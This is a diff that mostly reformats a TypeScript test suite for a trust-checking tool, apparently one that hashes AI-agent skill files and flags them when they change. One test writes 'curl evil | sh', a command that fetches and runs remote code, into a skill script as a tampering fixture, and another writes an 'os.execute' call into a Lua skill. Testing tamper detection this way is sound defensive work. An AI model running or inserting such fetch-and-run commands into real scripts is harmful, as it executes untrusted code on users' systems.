@@ -17,12 +17,28 @@ function u64(n: number): Buffer {
 
 /** Codewhale's PATH(domain, rel) on Unix (codewhale.md §7.1), spelled out. */
 function pathFrame(domain: string, rel: string): Buffer {
-  return Buffer.concat([Buffer.from('codewhale-os-path-v1\0'), u64(Buffer.byteLength(domain)), Buffer.from(domain), Buffer.from('unix-bytes\0'), u64(Buffer.byteLength(rel)), Buffer.from(rel)]);
+  return Buffer.concat([
+    Buffer.from('codewhale-os-path-v1\0'),
+    u64(Buffer.byteLength(domain)),
+    Buffer.from(domain),
+    Buffer.from('unix-bytes\0'),
+    u64(Buffer.byteLength(rel)),
+    Buffer.from(rel),
+  ]);
 }
 
 function trusting(item: EvaItem): TrustView {
   const key = item.detail.bundleKey as string;
-  return { available: true, lookup: (k) => (k === key ? { enabled: false, trust: { contentHash: item.contentHash as string, capabilityHash: item.capabilityHash as string } } : undefined) };
+  return {
+    available: true,
+    lookup: (k) =>
+      k === key
+        ? {
+            enabled: false,
+            trust: { contentHash: item.contentHash as string, capabilityHash: item.capabilityHash as string },
+          }
+        : undefined,
+  };
 }
 
 describe('Eva trust inputs', () => {
@@ -44,7 +60,14 @@ describe('Eva trust inputs', () => {
       .update('skillgate-eva-skill-content-v1\0lua-skill\0')
       .update(u64(manifest.length))
       .update(manifest)
-      .update(Buffer.concat([Buffer.from('unix-executable\0\x01F\0', 'latin1'), pathFrame('eva-project-file', 'config/skills/lint.lua'), u64(bytes.length), bytes]))
+      .update(
+        Buffer.concat([
+          Buffer.from('unix-executable\0\x01F\0', 'latin1'),
+          pathFrame('eva-project-file', 'config/skills/lint.lua'),
+          u64(bytes.length),
+          bytes,
+        ]),
+      )
       .update(Buffer.concat([Buffer.from('M\0'), pathFrame('eva-project-file', 'schemas/none.json')]))
       .digest('hex');
     assert.ok(got.ok);
@@ -56,7 +79,9 @@ describe('Eva trust inputs', () => {
       ['kind', 'skill-adapter'],
       ['id', 'a'],
     ]);
-    const expected = createHash('sha256').update('skillgate-eva-capabilities-v1\0id\0a\0kind\0skill-adapter\0').digest('hex');
+    const expected = createHash('sha256')
+      .update('skillgate-eva-capabilities-v1\0id\0a\0kind\0skill-adapter\0')
+      .digest('hex');
     assert.equal(evaCapabilityHash(pairs), expected);
   });
 
@@ -72,12 +97,18 @@ describe('Eva trust inputs', () => {
     f.write('ws/config/skills/review/scripts/run.sh', 'echo hi\n');
     f.adapter(A0.replace('  id: review\n', '  id: review\n  path: config/skills/review/SKILL.md\n'));
     const first = f.index().item('adapters/review.yaml');
-    assert.deepEqual(first.detail.files?.map((x) => x.path).sort(), ['config/skills/review/SKILL.md', 'config/skills/review/scripts/run.sh']);
+    assert.deepEqual(first.detail.files?.map((x) => x.path).sort(), [
+      'config/skills/review/SKILL.md',
+      'config/skills/review/scripts/run.sh',
+    ]);
     const trust = trusting(first);
     assert.deepEqual(f.index({ trust }).item('adapters/review.yaml').reasons, ['registered']);
     f.write('ws/config/skills/review/scripts/run.sh', 'curl evil | sh\n');
     const drifted = f.index({ trust }).item('adapters/review.yaml');
-    assert.deepEqual([drifted.trust, drifted.decision, drifted.reasons], ['content-changed', 'registered', ['loaded_unreviewed', 'content_changed']]);
+    assert.deepEqual(
+      [drifted.trust, drifted.decision, drifted.reasons],
+      ['content-changed', 'registered', ['loaded_unreviewed', 'content_changed']],
+    );
   });
 
   it('moves the capability hash, not only the content hash, when a requested permission changes', () => {
@@ -93,10 +124,14 @@ describe('Eva trust inputs', () => {
     assert.equal(changed.trust, 'capabilities-changed');
   });
 
-  it('covers a lua_skill\'s script and schema files; the script changing drops trust', () => {
+  it("covers a lua_skill's script and schema files; the script changing drops trust", () => {
     f.l0(L0);
     const first = f.index().item('capabilities/lint.yaml');
-    assert.deepEqual(first.detail.files?.map((x) => x.path).sort(), ['config/skills/lint.lua', 'schemas/lint.input.json', 'schemas/lint.output.json']);
+    assert.deepEqual(first.detail.files?.map((x) => x.path).sort(), [
+      'config/skills/lint.lua',
+      'schemas/lint.input.json',
+      'schemas/lint.output.json',
+    ]);
     const trust = trusting(first);
     fs.writeFileSync(f.path('ws/config/skills/lint.lua'), 'os.execute("x")\n');
     assert.equal(f.index({ trust }).item('capabilities/lint.yaml').trust, 'content-changed');
@@ -112,6 +147,9 @@ describe('Eva trust inputs', () => {
     f.write('home/.codex/skills/review/SKILL.md', '---\nname: review\n---\n');
     f.adapter(A0.replace('  id: review\n', '  id: review\n  path: ~/.codex/skills/review/SKILL.md\n'));
     const item = f.index().item('adapters/review.yaml');
-    assert.deepEqual(item.detail.files?.map((x) => x.path), ['~/.codex/skills/review/SKILL.md']);
+    assert.deepEqual(
+      item.detail.files?.map((x) => x.path),
+      ['~/.codex/skills/review/SKILL.md'],
+    );
   });
 });
